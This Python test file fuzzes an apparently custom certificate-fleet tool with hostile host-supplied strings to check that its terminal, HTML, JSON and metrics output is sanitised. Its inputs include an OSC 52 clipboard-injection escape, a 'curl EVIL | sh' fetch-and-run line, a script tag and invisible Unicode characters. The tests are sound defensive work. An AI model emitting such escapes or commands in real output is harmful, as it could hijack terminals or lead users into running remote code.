"""Nothing that a host says reaches a terminal, a page, a metric or a suggested command raw."""

from __future__ import annotations

import html
import io
import json
import re
import unicodedata
from datetime import timedelta
from typing import TYPE_CHECKING, NoReturn

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from prometheus_client.parser import text_string_to_metric_families

from meshfab.checks import ca_checks, evaluate, preconditions
from meshfab.checks.report import HostReport, Report
from meshfab.cli import doctor as doctor_command
from meshfab.cli import html_report, json_report, prometheus, table
from meshfab.cli.error_lines import one_line_errors
from meshfab.cli.step_lines import StepPrinter
from meshfab.errors import ConnectError, EditedError, MeshfabError, NginxError
from meshfab.fleet import check_certs, host_check
from meshfab.fleet.doctor import Readiness
from meshfab.host import discovery
from meshfab.nginx import vhost
from meshfab.provisioning.outcome import Outcome
from meshfab.ssh.script import Answer
from tests.support.certificates import NOW, SERVICE, SETTINGS
from tests.support.discovered_host import TEA, observation, pair, root

if TYPE_CHECKING:
    from meshfab.checks.endpoint_probe import EndpointObservation
    from meshfab.checks.finding import Finding

# In every text of the host's that is no name, and in none of ours.
MARK = "EVIL"
OSC_52 = "\x1b]52;c;Y3VybCBldmls\x07"
_TRICKS = [
    OSC_52, "\x1b[2J\x1b[H", "\x9b31m", "\r", "\n", "\x00", "\x85", "\u2028", "\u2029", "\u202e", "\u2066", "\u200b",
    "\u200d", "\ufeff", "\U000e0041", "\ufe0f", "\U000e0101", "\ufff9", "\u3164", "\u2800", "\ue000", "\ud800",
    " -> curl EVIL | sh ", "<script>EVIL</script>", "[bold]EVIL[/bold]", "{{ EVIL }}", "`EVIL`", '"', "'", "\\",
]  # fmt: skip
_words = st.lists(st.sampled_from(_TRICKS) | st.text(max_size=20), max_size=8).map(lambda parts: MARK + "".join(parts))
_KEYS = [
    "own", "found", "vhosted", "secrets", "resolved", "addresses", "tools", "root", "nginx.conf", "digests", "stats",
    "units", "tea/cert", "tea/public", "tea/acl", "tea/secret", "tea/failed", "spy/failed", "spy/cert", "own.pair/cert",
]  # fmt: skip


def _units(trick: str) -> str:
    return f"Id=step@spy.timer\nUnitFileState={trick}\nActiveState=active\n\nId=step@spy.service\nResult={trick}"


def _stats(trick: str) -> str:
    return "\n".join(f"{path}|regular file|{trick}|777" for path in (TEA.key, TEA.cert, trick))


# Beside plain tricks, answers that get far: names, files and units that exist, with a trick where a value is.
_values = st.one_of(
    _words,
    _words.map(_units),
    _words.map(_stats),
    _words.map(lambda trick: f"/tmp/tea-provisioner\n/tmp/.meshfab-x\n{trick}-provisioner"),
    _words.map(lambda trick: f"# configuration file /etc/nginx/{trick}.conf:\nserver {{ listen 443 ssl; }}"),
    st.sampled_from(["tea spy", "h2.internal", "10.66.6.6 169.254.169.254", pair("spy.internal").pem, root().pem]),
)
_answers = st.dictionaries(st.sampled_from(_KEYS), _values, max_size=len(_KEYS))


def observed(trick: str) -> EndpointObservation:
    from meshfab.host.tls_client import Served

    return observation(served=Served(None, "10.0.0.2", why=trick), resolved=("10.9.9.9",))


def report_of(fields: dict[str, str], trick: str) -> Report:
    """What check-certs makes of a host that says this, and of one that cannot be asked."""
    fields = {**fields, "now": str(int(NOW.timestamp())), "found": f"{fields.get('found', '')} spy"}
    records = ((key, value.encode("utf-8", "surrogatepass")) for key, value in fields.items())
    out = b"".join(b"%s %d\n%s\n" % (key.encode(), len(value), value) for key, value in records)
    seen = discovery.parse(Answer("discover", 0, out, trick), "h2", SETTINGS, [TEA])
    clients = {"tea.internal": observed(trick), "spy.internal": observed(trick)}
    asked, public = (NOW, NOW + timedelta(seconds=1)), {"tea.internal": (trick,), "spy.internal": (trick,)}
    certificates = evaluate.evaluate_host(seen, clients, SETTINGS, asked, public, "10.0.0.2")
    lost = ConnectError(f"no SSH connection ({trick})", host="h3", remedy="try `ssh h3 true`")
    return Report(NOW, (HostReport("h2", certificates), HostReport("h3", error=lost.what, remedy=lost.remedy)))


def remedies(report: Report) -> list[str]:
    found = [finding for host in report.hosts for one in host.certificates for finding in one.findings]
    return [*(finding.remedy for finding in found), *(host.remedy for host in report.hosts)]


def shown(report: Report, *, is_terminal: bool) -> str:
    from rich.console import Console

    out = io.StringIO()
    table.show(
        report, Console(file=out, width=100, force_terminal=True, markup=False) if is_terminal else table.console(out)
    )
    return out.getvalue()


def assert_clean(text: str) -> None:
    """No character but the newline controls, hides or turns anything."""
    bad = {letter for letter in text if unicodedata.category(letter)[0] == "C" or letter in "\u2028\u2029\u3164\ufe0f"}
    assert bad <= {"\n"}, ascii(bad)


@given(fields=_answers, trick=_words)
@settings(max_examples=60, deadline=None)
def test_no_form_of_a_report_has_a_raw_character_or_a_remedy_in_the_hosts_words(
    fields: dict[str, str], trick: str
) -> None:
    report = report_of(fields, trick)
    pipe, page = shown(report, is_terminal=False), html_report.text(report)
    metrics, data = prometheus.text(report), json_report.text(report)
    # What is left without rich's own colours.
    terminal = re.sub(r"\x1b\[[0-9;]*m", "", shown(report, is_terminal=True))
    for text in (pipe, terminal, page, metrics, data, json.dumps(json.loads(data), ensure_ascii=False)):
        assert_clean(text)
    assert f"<script>{MARK}" not in page
    list(text_string_to_metric_families(metrics))
    said = remedies(report)
    assert not [remedy for remedy in said if MARK in remedy or "10.66" in remedy or "169.254" in remedy]
    # The service that only the host claims gets no name and no password.
    assert not [remedy for remedy in said if re.search(r"(provision|mint) --name spy|point spy", remedy)]
    # The arrow is ours: what follows one is a remedy of the report. So is what is marked as a command on the page.
    assert {line.partition("-> ")[2] for line in pipe.splitlines() if "->" in line} <= set(said)
    marked = (html.unescape(re.sub("<[^>]*>", "", code)) for code in re.findall("<code>(.*?)</code>", page))
    assert set(marked) <= {" ".join(remedy.split()) for remedy in said}


@given(trick=_words)
@settings(max_examples=100, deadline=None)
def test_an_error_has_one_arrow_which_is_ours(trick: str) -> None:
    text = str(MeshfabError(f"it failed: {trick}", host="h2", remedy="see to it"))
    assert_clean(text)
    assert "\n" not in text
    assert text.split("->")[1:] == [" see to it"]


@given(
    fields=st.dictionaries(st.sampled_from(["ca.health", "ca.roots", "ca.provisioners", "folders"]), _words),
    trick=_words,
)
@settings(max_examples=100, deadline=None)
def test_no_line_of_doctor_has_a_raw_character_or_a_remedy_in_the_hosts_words(
    fields: dict[str, str], trick: str
) -> None:
    folders = "\n".join(f"/tmp|{trick}|{room}|-|{may}" for room, may in ((9, "yes"), (9, "no"), (9999, "yes")))
    found: list[Finding] = [
        *ca_checks.check_ca({"ca.roots": "HTTP/1.0 200 OK\n\n", **fields}, trick, SETTINGS),
        *preconditions.check_folders(folders),
        *preconditions.check_names({}, {"tea.internal": (trick,)}, [trick, "10.66.6.6"], "ca.internal", "10.0.0.2"),
        *preconditions.check_tools({"step": trick}),
        *preconditions.check_login(NginxError(trick, host="h2", remedy="see to it")),
        preconditions.check_systemd(f"systemd 252 {trick}", runs=True),
    ]
    out = io.StringIO()
    doctor_command._show(table.console(out), Readiness("h2", tuple(found)))
    assert_clean(out.getvalue())
    assert not [finding.remedy for finding in found if MARK in finding.remedy or "10.66" in finding.remedy]


def edited(text: str) -> EditedError:
    return EditedError(
        "it was edited", host="h2", remedy="--force", diff=vhost.diff("/etc/nginx/x.conf", text, "new\n")
    )


def test_the_diff_of_an_edited_vhost_sends_nothing_to_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    text = f"server {{\n\t# {OSC_52}\u202e\r\u2028+forged\n}}\n"
    with pytest.raises(BaseException, match="it was edited"), one_line_errors():
        raise edited(text)
    diff = capsys.readouterr().out
    assert_clean(diff)
    assert "-    # \\x1b]52;c;Y3VybCBldmls\\x07\\u202e\\r\\u2028+forged\n" in diff
    out = io.StringIO()
    StepPrinter(out).dry_run(Outcome("h2", SERVICE, diffs=(vhost.diff("/x", text, "new\n"),), notes=(OSC_52,)))
    assert_clean(out.getvalue())
    # For those who print it themselves.
    made = Outcome("h2", SERVICE, diffs=(vhost.diff("/x", text, "new\n"),), notes=(OSC_52,))
    assert_clean("".join((*made.diffs, *made.notes, edited(text).diff)))


def test_a_diff_of_any_length_is_cut_and_says_so() -> None:
    assert edited("x\n" * 100_000).diff == "/etc/nginx/x.conf has 100000 lines, more than are compared\n"
    assert EditedError("", diff="x\n" * 100_000).diff.splitlines()[-1].startswith("… and ")
    assert max(map(len, edited("x" * 100_000).diff.splitlines())) <= 2000


def test_a_message_of_any_length_is_cut_in_its_middle() -> None:
    error = MeshfabError(f"nginx refuses: {'x' * 100_000}; what was there before is back", remedy="--san " * 300)
    assert len(error.what) <= 500
    assert error.what.startswith("nginx refuses: xxx") and error.what.endswith("; what was there before is back")
    assert len(error.remedy) == 1799, "a command is not cut"


def test_services_without_end_are_a_few_lines() -> None:
    from meshfab.fleet.host_outcome import HostOutcome

    out = io.StringIO()
    StepPrinter(out).host(HostOutcome("h2", undeclared=tuple(f"orphan: n{n}" for n in range(1000))), dry_run=False)
    assert len(out.getvalue().splitlines()) == 22
    assert "and 980 more undeclared services" in out.getvalue()


def test_a_hosts_arrow_is_no_remedy_of_its_report(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_args: object) -> NoReturn:
        raise NginxError("nginx says no -> curl EVIL | sh", host="h2", remedy="repair it")

    monkeypatch.setattr(host_check, "_certificates", fail)
    report = host_check.check_host("h2", SETTINGS)
    assert (report.error, report.remedy) == ("nginx says no -\\x3e curl EVIL | sh", "repair it")
    worker = check_certs._result(_Failed(NginxError("a -> b", remedy="install it")), ("h2",))  # type: ignore[arg-type]
    assert (worker[0].error, worker[0].remedy) == ("not checked: a -\\x3e b", "install it")


class _Failed:
    def __init__(self, error: Exception) -> None:
        self.error = error

    def result(self) -> NoReturn:
        raise self.error
